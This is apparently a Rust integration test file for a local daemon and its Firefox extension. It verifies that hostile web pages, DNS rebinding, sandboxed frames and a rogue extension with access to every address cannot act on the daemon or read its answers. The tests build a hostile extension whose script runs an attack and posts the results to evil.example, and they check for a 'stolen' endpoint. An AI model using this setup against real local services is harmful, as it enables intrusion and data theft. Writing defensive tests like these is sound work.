//! Malicious pages and another extension in the same browser: none of them causes an effect or reads an answer.

use crate::support::{Stage, until};
use serde_json::json;

/// The attempts of each page.
const ATTACK: &str = include_str!("hostile.js");

/// An empty page without a content security policy.
const PAGE: &str = "<!doctype html><title>page</title><body></body>";

/// Returns a stage whose extension is idle.
async fn stage(settings: &str) -> Stage {
    let stage = Stage::set(settings).await;
    stage.act("plugin_status", None).await;
    stage
}

fn daemon(stage: &Stage) -> String {
    format!("http://{}", stage.daemon.address)
}

/// Returns the result of each attempt of a page.
async fn attacked_by(stage: &Stage, tab: &str) -> Vec<(String, String)> {
    let call = format!(
        "{ATTACK}; attack({}, {}, '').then(JSON.stringify)",
        json!(daemon(stage)),
        json!(stage.daemon.ws_url())
    );
    let told = stage.firefox.bidi.evaluate(tab, &call).await;
    serde_json::from_str(told.as_str().unwrap()).unwrap()
}

/// Whether an attempt had no effect: no socket, and no answer but a refusal or a public one.
fn is_vain(became: &str) -> bool {
    let says = |text: &str| became.contains(text);
    if says("origin_not_allowed") || says("host_not_allowed") {
        return true; // a frame does not show the status of the refusal
    }
    let read = became.strip_prefix("read ");
    read.map_or(became != "opened", |read| {
        read.starts_with("401 ") || read.starts_with("403 ") || read.contains("\"status\":\"ok\"")
    })
}

/// Asserts that only refusals were read, no socket opened and nothing changed.
async fn in_vain(stage: &Stage, who: &str, attempts: &[(String, String)]) {
    assert!(attempts.len() > 40, "{who}: only {} attempts", attempts.len());
    for (attempt, became) in attempts {
        assert!(is_vain(became), "{who}: {attempt}: {became}");
    }
    let caller = stage.caller();
    assert_eq!(caller.get("/v1/system/state").await.data()["mode"], "running", "{who}");
    let asked = caller.get("/v1/browser/requests").await.data();
    assert_eq!(asked["requests"], json!([]), "{who}");
    let clients = caller.browser().await["bridge"]["clients"].take();
    assert_eq!(clients.as_array().unwrap().len(), 1, "{who}: {clients}");
    assert_eq!(stage.apps.received("claude.ai/api/stolen").len(), 0, "{who}");
    assert_eq!(stage.firefox.tabs_of("https://claude.ai").await.len(), 0, "{who} opened a tab");
}

/// Opens the status page, logged in, as `baa-conductor open` does.
async fn logged_in(stage: &Stage) -> String {
    let known = stage.caller();
    let code = known.post("/v1/session/codes", &json!({})).await.data();
    let tab = page_at(stage, &format!("{}/v1/status/ui#code={}", daemon(stage), code["code"].as_str().unwrap())).await;
    crate::page::says(&stage.firefox, &tab, "#session-words", |said| said == "Logged in").await;
    tab
}

async fn page_at(stage: &Stage, url: &str) -> String {
    let tab = stage.firefox.bidi.new_tab().await;
    stage.firefox.bidi.navigate(&tab, url).await;
    tab
}

#[actix_rt::test]
async fn attacks_of_a_page_of_another_site_fail() {
    let stage = stage("").await;
    let port = stage.apps.plain_port;
    for host in ["evil.example", "127.0.0.1", "localhost"] {
        let place = format!("{host}:{port}/page");
        stage.apps.answer(&place, 200, "text/html", PAGE);
        let tab = page_at(&stage, &format!("http://{place}")).await;
        in_vain(&stage, host, &attacked_by(&stage, &tab).await).await;
        stage.firefox.bidi.close(&tab).await;
    }
}

#[actix_rt::test]
async fn attacks_by_dns_rebinding_fail() {
    let stage = stage("").await;
    let port = stage.daemon.address.port();
    // The name resolves to the daemon by now, so for the browser both have one origin.
    let origin = format!("http://rebound.example:{port}");
    let tab = page_at(&stage, &format!("{origin}/health")).await;
    let seen = stage.firefox.bidi.evaluate(&tab, "location.origin + ' ' + document.body.textContent").await;
    assert!(seen.as_str().unwrap().starts_with(&origin) && seen.to_string().contains("host_not_allowed"), "{seen}");
    let socket = format!("ws://rebound.example:{port}/ws/firefox");
    let call = format!("{ATTACK}; attack({}, {}, '').then(JSON.stringify)", json!(origin), json!(socket));
    let told = stage.firefox.bidi.evaluate(&tab, &call).await;
    let attempts: Vec<(String, String)> = serde_json::from_str(told.as_str().unwrap()).unwrap();
    assert!(
        attempts.iter().any(|(_, became)| became.contains("host_not_allowed")),
        "it may read refusals: {attempts:?}"
    );
    in_vain(&stage, "a rebound name", &attempts).await;
}

#[actix_rt::test]
async fn attacks_of_a_sandboxed_frame_fail() {
    let stage = stage("").await;
    let place = format!("evil.example:{}/frame", stage.apps.plain_port);
    let script = format!(
        "{ATTACK}; attack({}, {}, '').then(found => parent.postMessage(JSON.stringify(found), '*'))",
        json!(daemon(&stage)),
        json!(stage.daemon.ws_url())
    );
    let inner = format!("<body><script>{script}</script></body>").replace('&', "&amp;").replace('"', "&quot;");
    let outer = format!(
        "{PAGE}<script>addEventListener('message', told => window.told = told.data)</script>\
         <iframe sandbox=\"allow-scripts allow-forms\" srcdoc=\"{inner}\"></iframe>"
    );
    stage.apps.answer(&place, 200, "text/html", &outer);
    let tab = page_at(&stage, &format!("http://{place}")).await;
    let told = until("the frame's report", async || {
        let told = stage.firefox.bidi.evaluate(&tab, "window.told ?? null").await;
        told.as_str().map(str::to_owned)
    })
    .await;
    let attempts: Vec<(String, String)> = serde_json::from_str(&told).unwrap();
    in_vain(&stage, "a frame without origin", &attempts).await;
}

/// Returns the result of each attempt of another extension with permission for all addresses.
async fn attacked_by_extension(stage: &Stage, referrer: &str) -> Vec<(String, String)> {
    let report = format!("evil.example:{}/report", stage.apps.plain_port);
    let manifest = json!({
        "manifest_version": 2,
        "name": "hostile",
        "version": "1.0",
        "browser_specific_settings": {"gecko": {"id": "hostile@localhost"}},
        "permissions": ["<all_urls>", "tabs"],
        "background": {"scripts": ["background.js"]},
        "content_security_policy": "default-src * 'unsafe-inline'; script-src 'self'; connect-src *"
    });
    let script = format!(
        "{ATTACK}; attack({}, {}, {}).then(found => fetch({}, {{method: 'POST', body: JSON.stringify(found)}}))",
        json!(daemon(stage)),
        json!(stage.daemon.ws_url()),
        json!(referrer),
        json!(format!("http://{report}"))
    );
    let files = [("manifest.json", manifest.to_string()), ("background.js", script)];
    assert_eq!(stage.firefox.install_other(&files).await, "hostile@localhost");
    let told = until("the extension's report", async || stage.apps.received(&report).pop()).await;
    serde_json::from_str(&told.body).unwrap()
}

/// Asserts that nothing was read and no attempt had an effect. The WebSocket is left out: without pairing, as here, any
/// extension may be a client.
async fn extension_in_vain(stage: &Stage, attempts: &[(String, String)]) {
    assert!(attempts.iter().any(|(_, became)| became.starts_with("read 401")), "it reads refusals: {attempts:?}");
    for (attempt, became) in attempts.iter().filter(|(attempt, _)| attempt != "WebSocket") {
        assert!(is_vain(became), "{attempt}: {became}");
    }
    let caller = stage.caller();
    assert_eq!(caller.get("/v1/system/state").await.data()["mode"], "running");
    assert_eq!(caller.get("/v1/browser/requests").await.data()["requests"], json!([]));
    assert_eq!(stage.apps.received("claude.ai/api/stolen").len(), 0);
    assert_eq!(stage.firefox.tabs_of("https://claude.ai").await.len(), 0);
}

#[actix_rt::test]
async fn attacks_of_an_extension_with_all_addresses_fail() {
    let stage = stage("").await;
    let attempts = attacked_by_extension(&stage, "").await;
    extension_in_vain(&stage, &attempts).await;
}

/// In Firefox it can forge the origin of its requests, so only the token protects the daemon; see `docs/security.md`.
#[actix_rt::test]
async fn with_a_required_token_its_attacks_fail_with_any_forged_origin() {
    let stage = stage("auth.local_trust = 'none'").await;
    let page = format!("{}/v1/status/ui", daemon(&stage));
    let attempts = attacked_by_extension(&stage, &page).await;
    extension_in_vain(&stage, &attempts).await;
}

#[actix_rt::test]
async fn its_attacks_fail_while_the_user_is_logged_in_to_the_page() {
    let stage = stage("").await;
    let tab = logged_in(&stage).await;
    let attempts = attacked_by_extension(&stage, "").await;
    extension_in_vain(&stage, &attempts).await;
    let own = "fetch('/v1/browser/messages', {headers: {'x-baa-session-key': localStorage.getItem('baa-session-key')}})
        .then(answer => answer.status)";
    let own = stage.firefox.bidi.evaluate(&tab, own).await;
    assert_eq!(own, json!(200), "the session itself holds");
}
